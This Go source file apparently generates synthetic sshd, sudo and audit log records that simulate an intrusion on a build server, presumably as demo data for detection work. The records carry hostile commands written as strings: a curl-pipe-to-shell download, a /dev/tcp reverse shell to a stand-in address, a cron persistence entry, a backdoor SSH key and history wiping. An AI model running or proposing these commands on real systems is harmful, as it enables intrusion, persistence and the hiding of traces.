// SPDX-FileCopyrightText: 2026 The Gambeson Authors
// SPDX-License-Identifier: Apache-2.0

package demo

import "fmt"

// enterBuildServer goes on with the person's key, becomes root with the
// person's rights, and runs what it fetches.
func enterBuildServer(p *plan, at int64) {
	who := p.victim
	p.line(at, buildHost, "sshd", fmt.Sprintf("Accepted publickey for %s from %s port 50310 ssh2: ED25519 SHA256:%s", who.login, who.host.ip, fingerprint(who.login)))
	p.line(at+50e6, buildHost, "sshd", fmt.Sprintf("pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)", who.login, who.uid()))
	p.line(at+20e9, buildHost, "sudo", fmt.Sprintf("%s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=/bin/bash -c curl -fsSL %s/l.sh | sh", who.login, who.login, toolServer))
	p.root(at+20e9+40e6, []string{"bash", "-c", "curl -fsSL " + toolServer + "/l.sh | sh"}, "/usr/bin/bash", "/home/"+who.login)
	p.root(at+20e9+90e6, []string{"curl", "-fsSL", toolServer + "/l.sh"}, "/usr/bin/curl", "/home/"+who.login)
	p.root(at+26e9, []string{"bash", "-c", "bash -i >& /dev/tcp/198.51.100.77/443 0>&1"}, "/usr/bin/bash", "/root")
}

// root plans a command that the person runs as root.
func (p *plan) root(at int64, words []string, exe, dir string) {
	who := p.victim
	p.add(at, Audit, func(w *writer) {
		w.audit(call{host: buildHost, user: "root", login: who, exe: exe, words: words, dir: dir, key: "exec"})
	})
}

// rootWrites plans a file that the person writes as root.
func (p *plan) rootWrites(at int64, exe, file, key string) {
	who := p.victim
	p.add(at, Audit, func(w *writer) {
		w.audit(call{host: buildHost, user: "root", login: who, exe: exe, words: []string{exe[len("/usr/bin/"):], "-a", file}, dir: "/root", file: file, key: key})
	})
}

// plantCron makes the shell come back.
func plantCron(p *plan, at int64) {
	p.rootWrites(at, "/usr/bin/tee", "/etc/cron.d/"+intruderFile, "cron")
	p.root(at+5e9, []string{"bash", "-c", "echo '*/10 * * * * root curl -fsSL " + toolServer + "/l.sh | sh' > /etc/cron.d/" + intruderFile}, "/usr/bin/bash", "/root")
	p.line(at+9e9, buildHost, "crontab", "(root) REPLACE (root)")
}

// addKey opens a second way in.
func addKey(p *plan, at int64) {
	p.rootWrites(at, "/usr/bin/tee", "/root/.ssh/authorized_keys", "ssh_keys")
	p.root(at+1e9, []string{"sh", "-c", "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx0 kali >> /root/.ssh/authorized_keys"}, "/usr/bin/dash", "/root")
}

// clearHistory covers the traces.
func clearHistory(p *plan, at int64) {
	p.root(at, []string{"bash", "-c", "history -c; rm -f /root/.bash_history; ln -sf /dev/null /root/.bash_history"}, "/usr/bin/bash", "/root")
	p.root(at+1e9, []string{"rm", "-f", "/root/.bash_history"}, "/usr/bin/rm", "/root")
	p.root(at+2e9, []string{"ln", "-sf", "/dev/null", "/root/.bash_history"}, "/usr/bin/ln", "/root")
}
